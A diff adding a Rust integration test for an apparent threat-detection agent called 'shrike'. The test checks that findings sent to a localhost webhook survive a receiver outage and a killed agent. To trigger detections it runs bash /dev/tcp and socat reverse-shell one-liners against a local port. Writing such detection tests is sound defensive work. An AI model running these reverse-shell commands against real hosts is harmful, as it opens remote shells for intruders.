@@ -1,0 +1,177 @@
+//! Privileged: `shrike run` delivering real findings to a webhook on 127.0.0.1 across an outage
+//! of the receiver and a killed agent. The receiver is down while the first attack's findings are
+//! raised; the agent is killed (SIGKILL, no shutdown) and started again, a second attack happens,
+//! then the receiver comes up: every finding the agents raised arrives, under its own id only,
+//! with the body the agent wrote, and the spool is emptied.
+
+#[path = "common/agent.rs"]
+mod agent;
+mod common;
+#[path = "common/http.rs"]
+mod http;
+
+use std::{
+    collections::{BTreeMap, BTreeSet},
+    path::Path,
+    time::{Duration, Instant},
+};
+
+use agent::{metric, run_attack, AgentSpec};
+use common::{marker, privileged};
+use http::{finding_id, free_port, Server};
+use serde_json::Value;
+
+const RCE: &str = "Execution: Possible Remote Command Execution Detected";
+const REVERSE_SHELL: &str = "Reverse Shell";
+const SOCAT: &str = "Execution: Socat Reverse Shell Detected";
+
+fn spooled(dir: &Path) -> Vec<String> {
+    let mut v: Vec<String> = std::fs::read_dir(dir)
+        .into_iter()
+        .flatten()
+        .filter_map(|e| e.ok())
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.ends_with(".json"))
+        .collect();
+    v.sort();
+    v
+}
+
+fn wait(what: &str, timeout: Duration, mut cond: impl FnMut() -> bool, state: impl Fn() -> String) {
+    let deadline = Instant::now() + timeout;
+    while !cond() {
+        assert!(Instant::now() < deadline, "timed out waiting for {what}: {}", state());
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+fn category(f: &Value) -> String {
+    f["finding"]["category"].as_str().unwrap().to_string()
+}
+
+/// The findings (from `all`) whose process ancestry names `runner`.
+fn of_runner(all: &[Value], runner: u32) -> Vec<Value> {
+    all.iter()
+        .filter(|f| {
+            f["finding"]["sourceProperties"]["Process_Ancestry"]
+                .as_array()
+                .is_some_and(|a| a.iter().any(|x| x["pid"].as_u64() == Some(u64::from(runner))))
+        })
+        .cloned()
+        .collect()
+}
+
+fn categories(fs: &[Value]) -> BTreeSet<String> {
+    fs.iter().map(category).collect()
+}
+
+#[test]
+fn webhook_outage_and_killed_agent_lose_no_finding() {
+    if !privileged("webhook_outage_and_killed_agent_lose_no_finding") {
+        return;
+    }
+    let dir = std::env::temp_dir().join(marker("run-delivery"));
+    std::fs::create_dir_all(&dir).unwrap();
+    let port = free_port();
+    let spool = dir.join("spool/siem");
+    let token = dir.join("token");
+    std::fs::write(&token, "t0ken\n").unwrap();
+    let spec = AgentSpec {
+        name: "delivery",
+        socket: None,
+        host_scope: true,
+        extra_config: format!(
+            "[sinks]\nspool_dir = \"{}\"\n[[sinks.webhook]]\nname = \"siem\"\nurl = \"http://127.0.0.1:{port}/ingest\"\ntoken_file = \"{}\"\nbackoff_initial_ms = 50\nbackoff_max_ms = 400\ntimeout_ms = 3000\n",
+            dir.join("spool").display(),
+            token.display()
+        ),
+    };
+
+    // 1. The receiver is down. A reverse shell is caught; its findings wait in the spool.
+    let a = agent::start(&dir, &spec);
+    let runner1 = run_attack("bash", "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{P} 0>&1'", "id; exit\n");
+    let want1: BTreeSet<String> = [REVERSE_SHELL, RCE].iter().map(|s| s.to_string()).collect();
+    wait("the first attack's findings", Duration::from_secs(20), || categories(&of_runner(&a.findings(), runner1)) == want1, || {
+        format!("{:?}", a.findings().iter().map(category).collect::<Vec<_>>())
+    });
+    let n1 = a.findings().len();
+    wait("the findings in the spool", Duration::from_secs(10), || spooled(&spool).len() == n1, || format!("{:?}", spooled(&spool)));
+    let metrics_a = agent::http_get(&a.metrics, "/metrics");
+    wait(
+        "failed delivery attempts in the metrics",
+        Duration::from_secs(10),
+        || metric(&agent::http_get(&a.metrics, "/metrics"), "shrike_sink_failures_total{sink=\"siem\"}") >= 1.0,
+        || metrics_a.clone(),
+    );
+    let text = agent::http_get(&a.metrics, "/metrics");
+    assert_eq!(metric(&text, "shrike_sink_delivered_total{sink=\"siem\"}"), 0.0, "{text}");
+    assert!(metric(&text, "shrike_sink_spool_bytes{sink=\"siem\"}") > 0.0, "{text}");
+
+    // 2. The agent is killed: no flush, no shutdown. What it accepted is on disk.
+    let (found_a, _) = a.kill();
+    assert_eq!(found_a.len(), n1, "nothing more was written after the spool filled");
+    assert_eq!(spooled(&spool).len(), n1, "the spool outlives the killed agent");
+
+    // 3. Started again (the receiver still down): the spool is picked up, a second attack adds
+    //    to it.
+    let b = agent::start(&dir, &spec);
+    wait(
+        "the spool picked up at start",
+        Duration::from_secs(5),
+        || metric(&agent::http_get(&b.metrics, "/metrics"), "shrike_sink_spool_bytes{sink=\"siem\"}") > 0.0,
+        || agent::http_get(&b.metrics, "/metrics"),
+    );
+    let runner2 = run_attack("socat", "socat TCP:127.0.0.1:{P} EXEC:/bin/sh", "id; exit\n");
+    let want2: BTreeSet<String> = [SOCAT, REVERSE_SHELL, RCE].iter().map(|s| s.to_string()).collect();
+    wait("the second attack's findings", Duration::from_secs(20), || categories(&of_runner(&b.findings(), runner2)) == want2, || {
+        format!("{:?}", b.findings().iter().map(category).collect::<Vec<_>>())
+    });
+    let n2 = b.findings().len();
+    wait("every finding in the spool", Duration::from_secs(10), || spooled(&spool).len() == n1 + n2, || format!("{:?}", spooled(&spool)));
+
+    // 4. The receiver comes back: every finding arrives and the spool empties.
+    let server = Server::ok(port);
+    let mut raised: BTreeMap<String, Value> = BTreeMap::new();
+    for f in found_a.iter().chain(b.findings().iter()) {
+        assert!(raised.insert(finding_id(f), f.clone()).is_none(), "two findings with one id: {f}");
+    }
+    wait(
+        "delivery of everything",
+        Duration::from_secs(30),
+        || server.ids().into_iter().collect::<BTreeSet<_>>().len() == raised.len() && spooled(&spool).is_empty(),
+        || format!("received {:?}, spooled {:?}", server.ids(), spooled(&spool)),
+    );
+    let received: BTreeSet<String> = server.ids().into_iter().collect();
+    assert_eq!(received, raised.keys().cloned().collect::<BTreeSet<_>>(), "exactly the raised findings, no other ids");
+    for r in server.requests() {
+        assert_eq!((r.method.as_str(), r.target.as_str()), ("POST", "/ingest"));
+        assert_eq!(r.header("authorization"), Some("Bearer t0ken"));
+        let body = r.json();
+        let id = finding_id(&body);
+        assert_eq!(r.header("idempotency-key"), Some(id.as_str()));
+        // A repeat is allowed (at least once), and then it is the same finding.
+        assert_eq!(body, raised[&id], "the body the agent wrote");
+    }
+    // One incident, one id: no category of one attack arrived under two ids.
+    let mut per_incident: BTreeMap<(u32, String), usize> = BTreeMap::new();
+    for (runner, found) in [(runner1, &found_a), (runner2, &b.findings())] {
+        for f in of_runner(found, runner) {
+            *per_incident.entry((runner, category(&f))).or_default() += 1;
+        }
+    }
+    assert!(per_incident.values().all(|&n| n == 1), "{per_incident:?}");
+
+    let text = agent::http_get(&b.metrics, "/metrics");
+    wait(
+        "the delivered counter",
+        Duration::from_secs(5),
+        || metric(&agent::http_get(&b.metrics, "/metrics"), "shrike_sink_delivered_total{sink=\"siem\"}") >= raised.len() as f64,
+        || text.clone(),
+    );
+    let text = agent::http_get(&b.metrics, "/metrics");
+    assert_eq!(metric(&text, "shrike_sink_spool_bytes{sink=\"siem\"}"), 0.0, "{text}");
+    assert_eq!(metric(&text, "shrike_sink_dropped_total{sink=\"siem\"}"), 0.0, "{text}");
+    let (_, log) = b.stop();
+    assert!(spooled(&spool).is_empty(), "{log}");
+    std::fs::remove_dir_all(&dir).unwrap();
+}
